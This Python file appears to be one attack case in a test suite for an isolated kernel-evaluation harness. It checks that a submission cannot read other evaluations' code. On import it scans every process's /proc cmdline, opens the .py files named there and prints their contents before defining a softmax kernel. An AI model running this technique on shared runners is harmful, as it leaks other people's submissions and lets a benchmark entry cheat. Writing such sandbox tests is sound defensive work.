"""Reads other evaluations' kernels: files named on other processes' command lines.

Class: reading other submissions
Expected: error

On a shared runner or CI machine other evaluations run beside this one. Without a PID namespace the
child lists every process's command line (``/proc/<pid>/cmdline``) and reads the Python files named
there wherever its read-only view shows them (a decoy under ``/srv`` came back in the logs). If it
finds any, it prints them and behaves. A working defence gives the child a PID namespace of its own
with a fresh ``/proc``: it sees only its own processes, finds nothing, and the attack raises.
"""

import os

import torch

_found = []
for _pid in os.listdir("/proc"):
    if not _pid.isdigit() or int(_pid) == os.getpid():
        continue
    try:
        _args = open(f"/proc/{_pid}/cmdline", "rb").read().split(b"\0")
    except OSError:
        continue
    for _a in _args:
        _path = _a.decode(errors="replace")
        if _path.endswith(".py") and os.path.isfile(_path) and "attacks" not in _path:
            try:
                _found.append((_path, open(_path, encoding="utf-8", errors="replace").read(2000)))
            except OSError:
                pass
if not _found:
    raise RuntimeError(f"no other submission visible: {len(os.listdir('/proc'))} entries in /proc")
for _path, _text in _found[:5]:
    print(f"[attack] read {_path}: {_text[:300]!r}", flush=True)


def custom_kernel(data):
    (x,) = data
    return torch.softmax(x.float(), dim=-1).to(x.dtype)
